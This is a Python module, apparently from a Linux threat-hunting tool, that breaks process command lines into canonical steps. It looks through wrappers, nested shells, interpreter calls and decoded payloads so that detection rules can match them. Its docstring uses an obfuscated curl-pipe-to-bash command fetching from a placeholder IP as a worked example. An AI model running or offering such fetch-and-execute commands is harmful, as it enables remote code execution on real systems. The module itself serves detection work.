"""A process's command line -> the steps that it takes, wrappers and nested shells looked through.

``sudo env A=b sh -c 'cu""rl -s http://192.0.2.1/x | bash'`` takes the steps sudo, sh, curl, bash.
Each has one canonical line: the name without path and version, then its arguments and where its
output goes. Blanks within an argument are written as ``␣``, so that an expression tells arguments
apart; the parts of a pipeline are joined by `` ¦ ``.
"""

from __future__ import annotations

import re
from collections.abc import Iterator, Sequence
from dataclasses import dataclass
from functools import lru_cache

from linuxhunt.sections.decode import payloads
from linuxhunt.sections.shell import LONGEST, Command, plain_words, read

__all__ = ["DECODED", "SHELLS", "Step", "steps_of"]

SHELLS = frozenset(["sh", "bash", "dash", "zsh", "ksh", "mksh", "ash", "csh", "tcsh", "fish"])
DECODED = "(decoded)"
"""Name of the step that holds the text of a payload."""
_BLANK = re.compile(r"\s")
_DEEPEST = 5
_MOST = 400
_LINE = 8_000  # characters of a canonical line

# Programs that run another: options that take a value, and operands before the command.
_WRAPPERS: dict[str, tuple[str, int]] = {
    "sudo": ("-u -g -h -p -C -r -t -U -T -D -R --user --group --prompt --chdir", 0),
    "doas": ("-u -C", 0),
    "env": ("-u -C -S --unset --chdir", 0),
    "nohup": ("", 0),
    "setsid": ("", 0),
    "exec": ("-a", 0),
    "command": ("", 0),
    "builtin": ("", 0),
    "time": ("-f -o", 0),
    "nice": ("-n --adjustment", 0),
    "ionice": ("-c -n -p", 0),
    "chrt": ("", 1),
    "taskset": ("", 1),
    "timeout": ("-s -k --signal --kill-after", 1),
    "stdbuf": ("-i -o -e", 0),
    "unbuffer": ("", 0),
    "busybox": ("", 0),
    "toybox": ("", 0),
    "xargs": ("-I -n -P -d -a -L -s -E", 0),
    "watch": ("-n --interval", 0),
    "strace": ("-e -o -p -s -u", 0),
    "ltrace": ("-e -o -p -s -u", 0),
    "flock": ("-w -E", 1),
    "chroot": ("", 1),
    "nsenter": ("-t -S -G --target", 0),
    "unshare": ("-S -G -R", 0),
    "runuser": ("-u -g -G", 0),
    "pkexec": ("--user", 0),
    "systemd-run": ("-p -u --unit --property --uid --gid --on-calendar --on-active", 0),
    "systemd-cat": ("-t -p", 0),
    "proot": ("-r -b -w", 0),
    "firejail": ("", 0),
    "proxychains": ("-f", 0),
    "proxychains4": ("-f", 0),
    "torsocks": ("", 0),
    "ld-linux": ("--library-path --preload --argv0", 0),
    "run-one": ("", 0),
    "chronic": ("", 0),
    "torify": ("", 0),
    "catchsegv": ("", 0),
    "sshpass": ("-p -f -d -P", 0),
    "setpriv": ("", 0),
    "gosu": ("", 1),
    "su-exec": ("", 1),
    "rlwrap": ("-C -f -H", 0),
    "prlimit": ("", 0),
    "numactl": ("", 0),
    "setarch": ("", 1),
    "tini": ("", 0),
    "dumb-init": ("", 0),
    "fakeroot": ("", 0),
    "xvfb-run": ("-s -n -e", 0),
}
_VERSIONED = re.compile(
    r"(python|perl|php|ruby|lua|node|nodejs|gcc|clang|tclsh|pwsh|ld-linux)"
    r"(?:-x86-64|-aarch64|-armhf)?[-.]?(?:[\d.]+|so\.\d)*$"
)
_SAME = {"nodejs": "node", "pip3": "pip", "ncat": "nc", "netcat": "nc", "nc.openbsd": "nc",
         "nc.traditional": "nc", "vim": "vi", "nvim": "vi", "vim.basic": "vi"}  # fmt: skip
_INTERPRETERS = frozenset(["python", "perl", "ruby", "php", "node"])
_NO_CODE = re.compile(r"-[EISsuBOqwWTUexv]+|--login|--posix|--norc|--noprofile")
"""Options of shells and interpreters after which the file of the script may stand."""
# What interpreters hand to a shell: os.system('...'), popen("..."), qx and the like.
_CALLS = re.compile(
    r"(?:system|popen|popen2|popen3|exec|execl|execlp|call|run|Popen|check_output|check_call|"
    r"getoutput|shell_exec|passthru|proc_open|spawn|execSync)"
    r"[\s(\[]{0,6}(?:\"([^\"]{2,1000})\"|'([^']{2,1000})')"
)
_CODE = {"python": "-c", "perl": "-e", "ruby": "-e", "php": "-r", "node": "-e", "lua": "-e",
         "awk": "", "gawk": "", "mawk": "", "vi": "-c"}  # fmt: skip


@dataclass(frozen=True)
class Step:
    """One simple command that a process takes or that its shell text holds.

    Attributes:
        name: of the program, without path and version.
        program: as written.
        line: canonical.
        pipe: the canonical lines of its pipeline where this step is the first of it, else "".
        depth: 0 for the process itself, more within wrappers and nested shells.
        decoded: it comes out of an encoded payload.
    """

    name: str
    program: str
    line: str
    pipe: str
    depth: int
    decoded: bool


@lru_cache(maxsize=65_536)
def canonical(program: str) -> str:
    """Return a program's name without its path and version."""
    base = program.rstrip("/").rpartition("/")[2].removesuffix(" (deleted)").lstrip("-")
    versioned = _VERSIONED.fullmatch(base)
    base = versioned.group(1) if versioned else base
    return _SAME.get(base, base)


def steps_of(text: str, argv: Sequence[str | None] | None, *, is_script: bool) -> list[Step]:
    """Return the steps of a command line.

    Args:
        text: the command line.
        argv: its arguments, where they are known one by one.
        is_script: the text is read by a shell (a cron line, what somebody typed), not split at
            blanks.
    """
    found: list[Step] = []
    if is_script:
        _script(text, 0, False, found)
    else:
        words = [word or "" for word in argv] if argv else plain_words(text)
        if argv is None or len(argv) == 0:
            words = _rejoined(words)
        _pipeline([Command(words=words)], 0, False, found)
    return found[:_MOST]


def _rejoined(words: list[str]) -> list[str]:
    """Make one argument of what follows ``sh -c`` in a text that was printed without quotes."""
    for at, word in enumerate(words[:-1]):
        name = canonical(word)
        option = r"-[a-z]*c" if name in SHELLS | {"su"} else _CODE.get(name)
        if option == "":  # awk: the program is the first operand
            return [*words[: at + 1], " ".join(words[at + 1 :])]
        if option is not None:
            for flag in range(at + 1, min(at + 4, len(words) - 1)):
                if re.fullmatch(option, words[flag]):
                    text = " ".join(words[flag + 1 :])
                    if len(text) > 1 and text[0] == text[-1] and text[0] in "'\"":
                        text = text[1:-1]
                    return [*words[: flag + 1], text]
    return words


def _script(text: str, depth: int, decoded: bool, found: list[Step]) -> None:
    if depth > _DEEPEST or len(found) >= _MOST:
        return
    commands = read(text)
    at = 0
    while at < len(commands):
        end = at + 1
        while end < len(commands) and commands[end].pipeline == commands[at].pipeline:
            end += 1
        _pipeline(commands[at:end], depth, decoded, found)
        at = end


def _pipeline(commands: list[Command], depth: int, decoded: bool, found: list[Step]) -> None:
    """Add the steps of a pipeline, then of all that its parts run or unpack."""
    lines = [_line(command) for command in commands]
    plain = len(commands) == 1
    whole = lines[0] if plain else " ¦ ".join(_line(_innermost(each)) for each in commands)[:_LINE]
    for number, (command, line) in enumerate(zip(commands, lines, strict=True)):
        program = command.words[0] if command.words else ":"  # > FILE empties as : > FILE does
        pipe = whole if number == 0 and not plain else ""
        found.append(Step(canonical(program), program, line, pipe, depth, decoded))
    last = _innermost(commands[-1]).words
    if not plain and len(last) > 1 and canonical(last[0]) == "tee" and commands[0].words:
        name, words = canonical(commands[0].words[0]), commands[0].words
        line = f"{lines[0]} >>{last[-1]}"  # echo x | tee FILE writes what echo x > FILE does
        found.append(Step(name, words[0], line, "", depth, decoded))
    if depth >= _DEEPEST:
        return
    for command in commands:
        for inner in command.inner:
            _script(inner, depth + 1, decoded, found)
        _within(command, depth, decoded, found)
    if canonical(commands[0].words[0] if commands[0].words else "") in SHELLS:
        return  # what its text decodes has been seen there
    for payload in payloads(whole):
        text = _BLANK.sub("␣", payload)[:_LINE]
        found.append(Step(DECODED, DECODED, f"{DECODED} {text}", "", depth + 1, True))
        _script(payload, depth + 1, True, found)


def _within(command: Command, depth: int, decoded: bool, found: list[Step]) -> None:
    """Add what a command runs by itself: the command of a wrapper, the text of a shell."""
    words = command.words
    if not words:
        return
    name = canonical(words[0])
    script = _script_file(name, words)
    if script:  # the kernel runs a script FILE as its interpreter with FILE as argument
        own = Command(words=script, redirects=command.redirects)
        found.append(Step(canonical(script[0]), "", _line(own), "", depth + 1, decoded))
    if name in SHELLS or name == "su":
        for at, word in enumerate(words[1:-1], start=1):
            if re.fullmatch(r"-[a-zA-Z]*c|--command", word):
                _script(words[at + 1], depth + 1, decoded, found)
                break
        for operator, target in command.redirects:
            if operator in ("<<", "<<<") and name != "su":
                _script(target, depth + 1, decoded, found)
    elif name in ("eval", "trap"):
        _script(" ".join(words[1:]), depth + 1, decoded, found)
    elif name == "find":
        for inner in _find_commands(words):
            _pipeline([Command(words=inner)], depth + 1, decoded, found)
    elif name in ("script", "screen", "tmux", "ssh") or name not in (*_WRAPPERS, *_CODE):
        if name == "script" and "-c" in words[:-1]:
            _script(words[words.index("-c") + 1], depth + 1, decoded, found)
    elif name in _CODE:
        for code in words[1:]:
            for call in _CALLS.finditer(code[:LONGEST]):
                _script(call.group(1) or call.group(2), depth + 1, decoded, found)
    else:
        inner = _wrapped(name, words)
        if inner:
            again = Command(words=inner, redirects=command.redirects)
            _pipeline([again], depth + 1, decoded, found)


def _script_file(name: str, words: list[str]) -> list[str]:
    """Return the file that an interpreter runs, with its arguments; [] where it runs none."""
    if name not in SHELLS and name not in _INTERPRETERS:
        return []
    for at, word in enumerate(words[1:], start=1):
        if word.startswith("-") and len(word) > 1:
            if not _NO_CODE.fullmatch(word):
                return []
        elif re.fullmatch(r"[\w./+@~-]+", word):
            return words[at:]
        else:
            return []
    return []


def _wrapped(name: str, words: list[str]) -> list[str]:
    """Return the command that a wrapper runs; [] where there is none."""
    valued, operands = _WRAPPERS[name]
    with_value, at = valued.split(), 1
    while at < len(words):
        word = words[at]
        if word == "--":
            at += 1
            break
        if word.startswith("-") and len(word) > 1:
            at += 2 if word in with_value else 1
        elif name in ("sudo", "env", "doas") and re.fullmatch(r"\w+=.*", word, re.DOTALL):
            at += 1
        elif operands:
            operands -= 1
            at += 1
        else:
            break
    rest = words[at:]
    if name == "watch" and len(rest) == 1:
        return ["sh", "-c", rest[0]]
    return rest


def _innermost(command: Command) -> Command:
    """Return what a wrapped command comes down to: ``sudo nohup bash`` is bash in a pipeline."""
    words = command.words
    for _ in range(_DEEPEST):
        name = canonical(words[0]) if words else ""
        inner = _wrapped(name, words) if name in _WRAPPERS else []
        if not inner:
            break
        words = inner
    return Command(words, command.redirects, command.inner, command.assigned, command.pipeline)


def _find_commands(words: list[str]) -> Iterator[list[str]]:
    for at, word in enumerate(words):
        if word in ("-exec", "-execdir", "-ok"):
            end = at + 1
            while end < len(words) and words[end] not in (";", "+", "\\;"):
                end += 1
            yield words[at + 1 : end]


def _line(command: Command) -> str:
    words = [canonical(command.words[0]), *command.words[1:]] if command.words else [":"]
    words += command.assigned
    parts = [_BLANK.sub("␣", word) for word in words]
    parts += [
        operator + _BLANK.sub("␣", target)
        for operator, target in command.redirects
        if target != "/dev/null"
    ]
    return " ".join(parts)[:_LINE]
